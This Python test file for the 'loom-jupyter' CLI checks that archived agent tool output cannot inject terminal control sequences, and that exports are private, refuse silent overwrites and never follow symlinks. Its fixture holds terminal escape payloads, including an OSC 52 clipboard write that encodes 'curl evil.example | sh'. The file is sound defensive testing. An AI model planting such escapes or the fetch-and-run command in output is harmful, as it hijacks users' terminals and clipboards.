"""The CLI never lets archived text drive the terminal, and exports stay private
(security review F11, F12). The real ``loom-jupyter`` command in a subprocess, over a real
archive whose tool turn holds a file the agent read: it carries terminal escapes."""

from __future__ import annotations

import stat
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from loom_jupyter.archive import Archive, archive_path_for
from loom_jupyter.errors import LoomError
from loom_jupyter.messages import TextBlock, ToolResultBlock, TurnDraft
from loom_jupyter.session.export import write_export

if TYPE_CHECKING:
    from pathlib import Path

ESCAPES = (
    "readme\n"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the clipboard
    "\x1b]0;innocent title\x07"  # the window title
    "\x1b[8mHIDDEN\x1b[0m\x1b[2K"  # hidden text, erase the line
    "\x9b31m"  # a C1 control sequence introducer
)


@pytest.fixture
async def notebook(tmp_path: Path) -> Path:
    """A notebook whose archive holds a read_file result full of escapes."""
    path = tmp_path / "nb.ipynb"
    path.write_text("{}")
    async with Archive.open(archive_path_for(path)) as archive:
        sid = await archive.create_session(notebook_path=str(path), model="claude-sonnet")
        await archive.append_turn(sid, TurnDraft(role="user", content="read README.txt"))
        await archive.append_turn(
            sid,
            TurnDraft(
                role="tool",
                content=ESCAPES,
                tool_name="read_file",
                tool_call_id="t1",
                tool_input={"path": "README.txt"},
                blocks=(ToolResultBlock("t1", (TextBlock(ESCAPES),), False),),
            ),
        )
    return path


def _cli(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "loom_jupyter.cli", *args], capture_output=True, timeout=120
    )


@pytest.mark.attack(
    attack=(
        "A file the agent once read holds terminal escapes (an OSC 52 clipboard write, a "
        "title, hidden text); `loom-jupyter show` prints them to the person's terminal"
    ),
    stopped_by="The CLI shows every control character but newline and tab as a visible picture",
    ref="F11",
)
@pytest.mark.parametrize("command", ["show", "export", "search"])
def test_the_cli_prints_no_control_characters(notebook: Path, command: str) -> None:
    args = [command, str(notebook)] + (["readme"] if command == "search" else [])
    done = _cli(*args)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert b"\x1b" not in out
    assert b"\x07" not in out
    assert "\x9b".encode() not in out
    assert "\u241b]52;c;".encode() in out  # still there to read, as text


@pytest.mark.attack(
    attack="An export of the conversation (every file the agent read) is written 0644 and "
    "silently overwrites a file",
    stopped_by="Exports are created 0600 and refuse to replace a file without --force",
    ref="F12",
)
def test_exports_are_private_and_never_overwrite_silently(notebook: Path) -> None:
    target = notebook.parent / "journal.md"
    target.write_text("my notes")
    target.chmod(0o644)

    refused = _cli("export", str(notebook), "-o", str(target))
    assert refused.returncode == 1
    assert b"--force" in refused.stderr
    assert target.read_text() == "my notes"

    fresh = notebook.parent / "fresh.md"
    assert _cli("export", str(notebook), "-o", str(fresh)).returncode == 0
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600

    assert _cli("export", str(notebook), "-o", str(target), "--force").returncode == 0
    assert "read README.txt" in target.read_text()
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_an_export_never_follows_a_link(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("keep")
    link = tmp_path / "link.md"
    link.symlink_to(elsewhere)
    with pytest.raises(LoomError):
        write_export(link, "journal", force=True)
    assert elsewhere.read_text() == "keep"
